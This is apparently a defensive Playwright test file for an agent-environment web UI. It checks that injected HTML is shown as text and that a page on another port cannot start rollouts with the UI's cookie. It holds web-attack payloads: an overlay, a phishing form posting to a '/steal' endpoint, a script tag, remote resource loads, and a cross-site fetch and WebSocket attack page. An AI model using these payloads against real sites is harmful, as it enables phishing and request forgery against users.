"""The web UI against hostile content and hostile pages (issue 18), in real headless chromium
(Playwright): what the agent or a task wrote is shown as text (no overlay, no form, no request
to another host), a page on another 127.0.0.1 port cannot start a rollout with the UI's cookie
(no-cors POST, WebSocket, credentialed fetch), and closing the tab during Run frees the slot."""

import http.server
import json
import shlex
import threading
from urllib.parse import urlsplit

import pytest

from helpers import processes_of_uid, wait_for
from test_server import ServerProcess, sandbox_processes, scripted_port, server, sleeping_task  # noqa: F401 - fixtures
from test_web_ui import browser, phase_log, pick_preset  # noqa: F401 - browser: the shared chromium fixture
from pi_env.scripted import ScriptedToolCall, ScriptedTurn

pytestmark = [pytest.mark.needs_bwrap, pytest.mark.slow, pytest.mark.needs_chromium]

TOKEN = "ui-token-58c1d0"


class Listener:
    """A plain HTTP server on another 127.0.0.1 port: the 'other host' beacons would reach, and
    the attacker's page. Records every path it is asked for."""

    def __init__(self, page: str = ""):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                body = page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def payload(remote: str) -> str:
    """What a hostile agent or task writes: breaks out of a code fence and of markdown, an
    overlay, a form posting a typed key away, and every way to load from another host."""
    return (f"```\n</code></pre></div><div id=\"overlay\" style=\"position:fixed;inset:0;z-index:99999;"
            f"background:red\">OVERLAY</div>\n"
            f"<form id=\"phish\" action=\"{remote}/steal\" method=\"post\"><input type=\"password\" name=\"k\">"
            f"<button>Send</button></form>\n"
            f"<img src=\"{remote}/img.png\"> <img srcset=\"{remote}/srcset.png 2x\"> ![md]({remote}/md.png)\n"
            f"<video autoplay src=\"{remote}/video.mp4\"></video><audio autoplay src=\"{remote}/audio.mp3\"></audio>\n"
            f"<link rel=\"stylesheet\" href=\"{remote}/style.css\"><style>body{{background:url({remote}/bg.png)}}</style>\n"
            f"<iframe src=\"{remote}/frame\"></iframe><script>document.title='pwned'</script>\n```\n")


@pytest.fixture(scope="module")
def remote():
    listener = Listener()
    yield listener
    listener.close()


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory, remote, scripted_port):
    presets = tmp_path_factory.mktemp("presets")
    html = payload(remote.url)
    task = {"task_id": "hostile", "instruction": f"Do it.\n{html}", "verify": [f"printf %s {json.dumps(html)}",
                                                                               "false"],
            "files": {"README.md": html, "notes</h4><img src=x>.md": html},
            "solution": [{"tool": "write", "path": "out.md", "content": html},
                         {"tool": "bash", "command": f"cat out.md; printf %s {json.dumps(html)} >&2"}]}
    (presets / "hostile.json").write_text(json.dumps(task))
    (presets / "slow.json").write_text(json.dumps(sleeping_task(1618, "slow")))
    (presets / "badsetup.json").write_text(json.dumps({"task_id": "badsetup", "instruction": "Setup fails loudly.",
                                                       "verify": ["true"],
                                                       "setup": [f"printf %s {json.dumps(html)} >&2; exit 3"],
                                                       "solution": [{"tool": "bash", "command": "true"}]}))
    served = ServerProcess(tmp_path_factory.mktemp("web"), web=True, MAX_CONCURRENT_ENVS="1", PI_ENV_MAX_QUEUE="0",
                           PI_ENV_EXAMPLES=str(presets), PI_ENV_AUTH_TOKEN=TOKEN,
                           PI_ENV_ALLOWED_BASE_URLS=f"http://127.0.0.1:{scripted_port}")  # the scripted server's
    yield served
    served.stop()


def signed_in_page(browser, server):
    """A fresh browser context, signed in through the form at /web (the cookie it sets)."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(server.url + "/web/")
    page.fill("#token", TOKEN)
    page.click("#sign-in")
    page.wait_for_selector("#run", timeout=60_000)
    return context, page


# What agent or task text would have created, had it been rendered as HTML or markdown: the
# overlay and the form by id, any element pointing at the other host, media, frames, the
# file name's <img src=x>, the script's title.
INJECTED = """remote => {
  const pointing = [];
  for (const element of document.querySelectorAll('*'))
    for (const attribute of element.attributes)
      if (attribute.value.includes(remote)) pointing.push(`<${element.tagName.toLowerCase()} ${attribute.name}>`);
  return {pointing, overlay: document.querySelectorAll('#overlay').length, forms: document.forms.length,
          phish: document.querySelectorAll('#phish, input[name=k]').length,
          media: document.querySelectorAll('video, audio, iframe, object, embed').length,
          img_x: [...document.images].filter(img => img.getAttribute('src') === 'x').length,
          title_pwned: document.title === 'pwned'};
}"""
NOTHING_INJECTED = {"pointing": [], "overlay": 0, "forms": 0, "phish": 0, "media": 0, "img_x": 0,
                    "title_pwned": False}


def show_every_view(page, check) -> None:
    """Open each tab in turn (an overlay would stop the clicks: checked first), then check."""
    page.wait_for_timeout(1500)  # anything that would load, loads now
    check()
    for tab in ("Files", "Conversation", "Logs", "Raw JSON", "Files"):
        page.get_by_role("tab", name=tab).click()
        page.wait_for_timeout(300)
    page.wait_for_timeout(1500)
    check()


def use_endpoint(page, url: str, model: str, key: str) -> None:
    endpoint = page.locator("#endpoint input")
    endpoint.fill(url)
    endpoint.press("Enter")
    page.locator("#model textarea, #model input").first.fill(model)
    page.locator("#api-key input, #api-key textarea").first.fill(key)
    page.locator("#instruction textarea").click()  # blur: the dropdown keeps the typed URL


def tab_text(page, tab: str, elem_id: str) -> str:
    page.get_by_role("tab", name=tab).click()
    page.wait_for_function(f"document.querySelector('#{elem_id}').innerText.trim().length > 0", timeout=20_000)
    return page.locator(f"#{elem_id}").inner_text()


def run_and_wait(page) -> None:
    page.locator("#run").click()
    page.wait_for_selector("#reward h2", timeout=240_000)


@pytest.mark.timeout(900)  # three rollouts and a setup failure, each bounded by run_and_wait
def test_agent_and_task_output_is_shown_as_text(browser, hostile_server, remote, server):
    """The payloads in the instruction, file contents, a file name, tool arguments and output,
    verify output, a setup error, the agent's thinking and final message: each view shows them
    as text; no element of theirs exists and nothing was asked of the other host."""
    html = payload(remote.url)
    key = server.add_script([
        ScriptedTurn(reasoning=f"thinking {html}", tool_calls=[ScriptedToolCall(
            name="bash", arguments={"command": f"cat README.md > /dev/null; echo {shlex.quote(html)} > said.md"})]),
        ScriptedTurn(text=f"Final answer: {html}")], api_key="sk-ui-hostile-0123")
    context, page = signed_in_page(browser, hostile_server)
    server_origin = urlsplit(hostile_server.url).netloc
    asked_elsewhere = []  # the page tried it (CSP may still have stopped it)
    answered_elsewhere = []  # it got an answer: it left
    page.on("request", lambda r: asked_elsewhere.append(r.url) if urlsplit(r.url).netloc not in (
        server_origin, "", "fonts.googleapis.com") else None)  # the font: OpenEnv's theme, blocked by the CSP
    page.on("response", lambda r: answered_elsewhere.append(r.url) if urlsplit(r.url).netloc != server_origin
            and not r.url.startswith(("data:", "blob:")) else None)
    remote_host = urlsplit(remote.url).netloc

    def check() -> None:
        assert remote.hits == [] and answered_elsewhere == [], (remote.hits, answered_elsewhere)
        assert page.evaluate(INJECTED, remote_host) == NOTHING_INJECTED
        assert asked_elsewhere == [], asked_elsewhere

    try:
        pick_preset(page, "hostile", "Do it.")
        run_and_wait(page)
        show_every_view(page, check)
        # It is all there, as text.
        files = tab_text(page, "Files", "files")
        assert "OVERLAY</div>" in files and "notes</h4><img src=x>.md" in files and f"{remote.url}/img.png" in files
        conversation = tab_text(page, "Conversation", "conversation")
        assert '<form id="phish"' in conversation and "<video autoplay" in conversation  # tool args and output
        assert "<audio autoplay" in page.locator("#verify-table").inner_text()  # verify output, a text grid
        assert "Reward: 0.5" in page.locator("#reward").inner_text()

        pick_preset(page, "badsetup", "Setup fails loudly.")
        run_and_wait(page)
        show_every_view(page, check)
        reward = page.locator("#reward").inner_text()
        assert "setup_failed" in reward and "OVERLAY</div>" in reward and "<iframe src=" in reward, reward

        pick_preset(page, "hostile", "Do it.")
        use_endpoint(page, server.base_url, "scripted-model", key)
        run_and_wait(page)
        show_every_view(page, check)
        conversation = tab_text(page, "Conversation", "conversation")
        assert f"(thinking) thinking ```\n</code></pre>" in conversation  # the thinking, as text
        assert "Final answer: ```" in conversation and "<iframe src=" in conversation
        assert "echo '```" in conversation  # the tool call's arguments
        page.screenshot(path=str(hostile_server.log_path.parent / "hostile-ui.png"), full_page=True)
        check()
    finally:
        context.close()


def test_a_page_on_another_port_cannot_use_the_ui_cookie(browser, hostile_server):
    """Same host, another port: same site for the SameSite=Strict cookie, another origin. Its
    no-cors text/plain POST to /mcp and to Gradio's queue, its WebSocket to /ws and its
    credentialed fetch all fail; no rollout starts."""
    server = hostile_server.url
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
            "params": {"name": "run_rollout", "arguments": {"task": sleeping_task(1619, "csrf")}}}
    step = {"type": "step", "data": {"type": "call_tool", "tool_name": "run_rollout",
                                     "arguments": {"task": sleeping_task(1619, "csrf-ws")}}}
    attacker = Listener(f"""<!doctype html><script>
window.outcome = {{}};
fetch("{server}/mcp", {{method: "POST", mode: "no-cors", credentials: "include",
    headers: {{"Content-Type": "text/plain"}}, body: {json.dumps(json.dumps(call))}}})
  .then(() => outcome.post = "sent").catch(() => outcome.post = "failed");
fetch("{server}/web/gradio_api/info", {{credentials: "include"}})
  .then(r => r.text()).then(t => outcome.read = t).catch(() => outcome.read = "blocked");
const ws = new WebSocket("{server.replace('http', 'ws')}/ws");
ws.onopen = () => {{ outcome.ws = "open"; ws.send({json.dumps(json.dumps(step))}); }};
ws.onerror = () => {{ outcome.ws = outcome.ws || "refused"; }};
ws.onclose = () => {{ outcome.ws = outcome.ws || "refused"; }};
</script>""")
    context, page = signed_in_page(browser, hostile_server)
    try:
        evil = context.new_page()
        evil.goto(attacker.url + "/")
        evil.wait_for_function("window.outcome.ws && window.outcome.read && window.outcome.post", timeout=20_000)
        outcome = evil.evaluate("window.outcome")
        assert outcome["ws"] == "refused" and outcome["read"] == "blocked", outcome
        page.wait_for_timeout(3000)
        assert not sandbox_processes("sleep 1619")
        assert "csrf" not in hostile_server.log_path.read_text()
    finally:
        context.close()
        attacker.close()


def test_closing_the_tab_during_run_frees_the_slot(browser, hostile_server):
    context, page = signed_in_page(browser, hostile_server)
    try:
        pick_preset(page, "slow", "wait")
        page.locator("#run").click()
        (pid, uid), = wait_for(lambda: sandbox_processes("sleep 1618"), 90, "the slow rollout's agent to run")
        wait_for(lambda: "agent …" in phase_log(page), 20, "the live log to show the agent phase")
        page.close()
        wait_for(lambda: not processes_of_uid(uid), 30, "the agent to be killed after the tab closed")
        wait_for(lambda: not any(hostile_server.sandbox_root.iterdir()), 20, "the sandbox to be deleted")
    finally:
        context.close()
